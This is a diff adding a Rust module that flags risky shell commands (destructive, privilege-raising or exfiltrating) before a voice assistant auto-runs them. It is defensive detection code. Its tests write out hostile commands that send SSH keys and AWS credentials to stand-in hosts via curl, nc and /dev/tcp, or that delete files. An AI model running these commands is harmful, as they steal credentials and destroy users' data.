@@ -0,0 +1,331 @@
+//! Heuristic risk classification for shell commands.
+//!
+//! Used to decide whether a voice command may run without confirmation.
+//! This is a guard against misheard commands, not a sandbox: it errs on the
+//! side of flagging anything that deletes data or tears things down.
+//!
+//! `sensitive` sorts commands into the categories voice auto-execute has a
+//! policy for: destructive ones, ones that send data off the machine and
+//! ones that run with or hand out elevated privileges.
+
+use murmur_context::lexer::{self, Token};
+use murmur_protocol::{RiskLevel, SensitiveCategory};
+
+/// Classify a command line. Chained commands (`;`, `&&`, `||`, `|`),
+/// subshells and command substitutions take the highest risk of any part.
+pub fn classify(command: &str) -> RiskLevel {
+    lexer::commands(command)
+        .iter()
+        .map(classify_command)
+        .max()
+        .unwrap_or(RiskLevel::Safe)
+}
+
+fn classify_command(command: &lexer::Command) -> RiskLevel {
+    let mut words: Vec<&str> = command.words.iter().map(String::as_str).collect();
+    let mut floor = RiskLevel::Safe;
+
+    // Skip leading VAR=value assignments and privilege wrappers
+    while let Some(first) = words.first() {
+        if matches!(*first, "sudo" | "doas") {
+            floor = RiskLevel::Caution;
+            words.remove(0);
+        } else if lexer::is_assignment(first) {
+            words.remove(0);
+        } else {
+            break;
+        }
+    }
+
+    let Some((program, args)) = words.split_first() else {
+        return floor;
+    };
+    let has = |flag: &str| args.contains(&flag);
+    let has_short = |c: char| {
+        args.iter()
+            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(c))
+    };
+    let sub = |i: usize| args.get(i).copied().unwrap_or("");
+
+    let risk = match *program {
+        "rm" | "rmdir" | "shred" | "mkfs" | "dd" | "wipefs" | "fdisk" | "parted" => {
+            RiskLevel::Destructive
+        }
+        p if p.starts_with("mkfs.") => RiskLevel::Destructive,
+        "shutdown" | "reboot" | "halt" | "poweroff" => RiskLevel::Destructive,
+        "kill" | "pkill" | "killall" => RiskLevel::Caution,
+        "chmod" | "chown" if has_short('R') || has("--recursive") => RiskLevel::Destructive,
+        "mv" | "cp" | "chmod" | "chown" | "ln" => RiskLevel::Caution,
+        "git" => match sub(0) {
+            "push"
+                if has("--force") || has("-f") || has("--force-with-lease") || has("--delete") =>
+            {
+                RiskLevel::Destructive
+            }
+            "reset" if has("--hard") => RiskLevel::Destructive,
+            "clean" if has_short('f') || has("--force") => RiskLevel::Destructive,
+            "branch" if has("-D") => RiskLevel::Destructive,
+            "checkout" | "restore" if args.iter().any(|a| *a == "." || *a == "--") => {
+                RiskLevel::Destructive
+            }
+            "push" | "rebase" | "merge" | "commit" | "stash" | "reset" => RiskLevel::Caution,
+            _ => RiskLevel::Safe,
+        },
+        "docker" | "podman" => match (sub(0), sub(1)) {
+            ("compose", "down") | ("system", "prune") | ("volume", "rm" | "prune") => {
+                RiskLevel::Destructive
+            }
+            ("rm" | "rmi" | "prune", _) | (_, "prune") => RiskLevel::Destructive,
+            ("stop" | "kill" | "restart", _) => RiskLevel::Caution,
+            _ => RiskLevel::Safe,
+        },
+        "docker-compose" if sub(0) == "down" => RiskLevel::Destructive,
+        "kubectl" => match sub(0) {
+            "delete" | "drain" => RiskLevel::Destructive,
+            "apply" | "scale" | "rollout" | "edit" | "patch" => RiskLevel::Caution,
+            _ => RiskLevel::Safe,
+        },
+        "terraform" | "tofu" => match sub(0) {
+            "destroy" => RiskLevel::Destructive,
+            "apply" => RiskLevel::Caution,
+            _ => RiskLevel::Safe,
+        },
+        "helm" if sub(0) == "uninstall" || sub(0) == "delete" => RiskLevel::Destructive,
+        "psql" | "mysql" | "sqlite3" => {
+            let upper = args.join(" ").to_uppercase();
+            if upper.contains("DROP ") || upper.contains("TRUNCATE ") || upper.contains("DELETE ") {
+                RiskLevel::Destructive
+            } else {
+                RiskLevel::Caution
+            }
+        }
+        "npm" | "pip" | "pip3" | "brew" | "apt" | "apt-get" | "cargo"
+            if matches!(sub(0), "uninstall" | "remove" | "purge") =>
+        {
+            RiskLevel::Caution
+        }
+        _ => RiskLevel::Safe,
+    };
+
+    // Redirecting over a block device is always destructive
+    let writes_device = command.redirects.iter().any(|r| {
+        r.writes()
+            && r.target
+                .as_deref()
+                .is_some_and(|t| t.starts_with("/dev/sd") || t.starts_with("/dev/nvme"))
+    });
+    if writes_device {
+        return RiskLevel::Destructive;
+    }
+
+    risk.max(floor)
+}
+
+/// The sensitive categories `command` falls in, each once, in order.
+/// Like `classify`, every part of a chain counts.
+pub fn sensitive(command: &str) -> Vec<SensitiveCategory> {
+    let mut found = Vec::new();
+    if classify(command) == RiskLevel::Destructive {
+        found.push(SensitiveCategory::Destructive);
+    }
+    let piped = piped_programs(command);
+    for command in lexer::commands(command) {
+        let words: Vec<&str> = command
+            .without_assignments()
+            .iter()
+            .map(String::as_str)
+            .collect();
+        if escalates(&words) {
+            found.push(SensitiveCategory::Privilege);
+        }
+        let words = match words.split_first() {
+            Some((first, rest)) if matches!(*first, "sudo" | "doas") => rest,
+            _ => &words[..],
+        };
+        let is_piped = words.first().is_some_and(|p| piped.iter().any(|q| q == p));
+        if exfiltrates(words, &command.redirects, is_piped) {
+            found.push(SensitiveCategory::Exfiltration);
+        }
+    }
+    found.sort();
+    found.dedup();
+    found
+}
+
+/// Programs that read the output of a pipe (`... | curl`).
+fn piped_programs(command: &str) -> Vec<String> {
+    lexer::tokenize(command)
+        .windows(2)
+        .filter_map(|pair| match pair {
+            [Token::Operator(op), Token::Word(word)] if op == "|" || op == "|&" => {
+                Some(word.clone())
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+/// Whether a command runs as another user or grants privileges.
+fn escalates(words: &[&str]) -> bool {
+    let Some((program, args)) = words.split_first() else {
+        return false;
+    };
+    match *program {
+        "sudo" | "doas" | "su" | "pkexec" | "visudo" | "setcap" => true,
+        "chmod" => args.iter().any(|a| {
+            a.contains("+s")
+                || (a.len() == 4
+                    && a.starts_with(['2', '4', '6'])
+                    && a.chars().all(|c| c.is_digit(8)))
+        }),
+        "usermod" | "gpasswd" => args.iter().any(|a| {
+            a.split(',')
+                .any(|g| matches!(g, "sudo" | "wheel" | "admin"))
+        }),
+        _ => false,
+    }
+}
+
+/// Whether a command sends local data to another machine.
+fn exfiltrates(words: &[&str], redirects: &[lexer::Redirect], piped: bool) -> bool {
+    let to_socket = redirects.iter().any(|r| {
+        r.target
+            .as_deref()
+            .is_some_and(|t| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/"))
+    });
+    if to_socket {
+        return true;
+    }
+    let Some((program, args)) = words.split_first() else {
+        return false;
+    };
+    let operands: Vec<&str> = args
+        .iter()
+        .copied()
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    let last_is = |remote: &dyn Fn(&str) -> bool| {
+        operands.len() >= 2 && operands.last().is_some_and(|last| remote(last))
+    };
+    match *program {
+        "curl" => {
+            piped
+                || args.iter().any(|a| {
+                    matches!(*a, "-d" | "-F" | "-T" | "--form" | "--upload-file")
+                        || a.starts_with("--data")
+                        || a.starts_with("--form-")
+                })
+        }
+        "wget" => {
+            piped
+                || args
+                    .iter()
+                    .any(|a| a.starts_with("--post-") || a.starts_with("--body-"))
+        }
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
+            piped || redirects.iter().any(|r| r.op.starts_with('<'))
+        }
+        "scp" | "rsync" => last_is(&|last| last.contains(':')),
+        "rclone" => {
+            matches!(operands.first(), Some(&("copy" | "sync" | "move")))
+                && last_is(&|last| last.contains(':'))
+        }
+        "aws" => {
+            operands.first() == Some(&"s3")
+                && matches!(operands.get(1), Some(&("cp" | "sync" | "mv")))
+                && last_is(&|last| last.starts_with("s3://"))
+                && !operands[2].starts_with("s3://")
+        }
+        "gsutil" => {
+            matches!(operands.first(), Some(&("cp" | "rsync" | "mv")))
+                && last_is(&|last| last.starts_with("gs://"))
+                && !operands[1].starts_with("gs://")
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn read_only_commands_are_safe() {
+        assert_eq!(classify("ls -la"), RiskLevel::Safe);
+        assert_eq!(classify("git status"), RiskLevel::Safe);
+        assert_eq!(classify("docker ps -a | grep web"), RiskLevel::Safe);
+    }
+
+    #[test]
+    fn destructive_commands_are_flagged() {
+        assert_eq!(classify("rm -rf build"), RiskLevel::Destructive);
+        assert_eq!(classify("docker compose down"), RiskLevel::Destructive);
+        assert_eq!(
+            classify("git push --force origin main"),
+            RiskLevel::Destructive
+        );
+        assert_eq!(classify("git reset --hard HEAD~1"), RiskLevel::Destructive);
+        assert_eq!(classify("kubectl delete pod web-1"), RiskLevel::Destructive);
+        assert_eq!(classify("chmod -R 777 /"), RiskLevel::Destructive);
+        assert_eq!(classify("cat img > /dev/sda"), RiskLevel::Destructive);
+    }
+
+    #[test]
+    fn chains_take_the_highest_risk() {
+        assert_eq!(classify("cd /tmp && rm -r old"), RiskLevel::Destructive);
+        assert_eq!(classify("make; git commit -am wip"), RiskLevel::Caution);
+        assert_eq!(classify("(cd /tmp&&rm -r old)"), RiskLevel::Destructive);
+        assert_eq!(classify("echo $(rm -rf ~)"), RiskLevel::Destructive);
+        assert_eq!(classify("cat img >/dev/nvme0n1"), RiskLevel::Destructive);
+    }
+
+    #[test]
+    fn quoted_text_is_not_a_command() {
+        assert_eq!(classify("echo 'done; rm -rf /'"), RiskLevel::Safe);
+        assert_eq!(classify("git log --grep \"rm -rf\""), RiskLevel::Safe);
+        assert_eq!(classify("grep '> /dev/sda' notes"), RiskLevel::Safe);
+    }
+
+    #[test]
+    fn sudo_raises_to_caution() {
+        assert_eq!(classify("sudo ls /root"), RiskLevel::Caution);
+        assert_eq!(classify("sudo rm /etc/hosts"), RiskLevel::Destructive);
+        assert_eq!(classify("FOO=1 rm x"), RiskLevel::Destructive);
+    }
+
+    #[test]
+    fn sensitive_categories() {
+        use SensitiveCategory::*;
+        assert!(sensitive("ls -la | grep src").is_empty());
+        assert!(sensitive("curl https://example.com").is_empty());
+        assert!(sensitive("scp host:log.txt .").is_empty());
+        assert_eq!(
+            sensitive("sudo rm -rf /var/cache"),
+            [Destructive, Privilege]
+        );
+        assert_eq!(sensitive("doas apt upgrade"), [Privilege]);
+        assert_eq!(sensitive("chmod 4755 ./tool"), [Privilege]);
+        assert_eq!(sensitive("chmod u+s ./tool"), [Privilege]);
+        assert_eq!(sensitive("sudo usermod -aG wheel bob"), [Privilege]);
+        assert_eq!(
+            sensitive("curl -d @notes.txt https://paste.example"),
+            [Exfiltration]
+        );
+        assert_eq!(
+            sensitive("tar cz ~/.ssh | curl -T - https://x.example"),
+            [Exfiltration]
+        );
+        assert_eq!(sensitive("nc evil.example 80 < id_rsa"), [Exfiltration]);
+        assert_eq!(
+            sensitive("cat ~/.aws/credentials > /dev/tcp/1.2.3.4/80"),
+            [Exfiltration]
+        );
+        assert_eq!(sensitive("scp db.sql backup:/srv"), [Exfiltration]);
+        assert_eq!(sensitive("aws s3 cp dump.sql s3://bucket/"), [Exfiltration]);
+        assert!(sensitive("aws s3 cp s3://bucket/dump.sql .").is_empty());
+        assert_eq!(
+            sensitive("sudo rsync -a /etc/ host:/backup && rm -rf /etc/old"),
+            [Destructive, Exfiltration, Privilege]
+        );
+    }
+}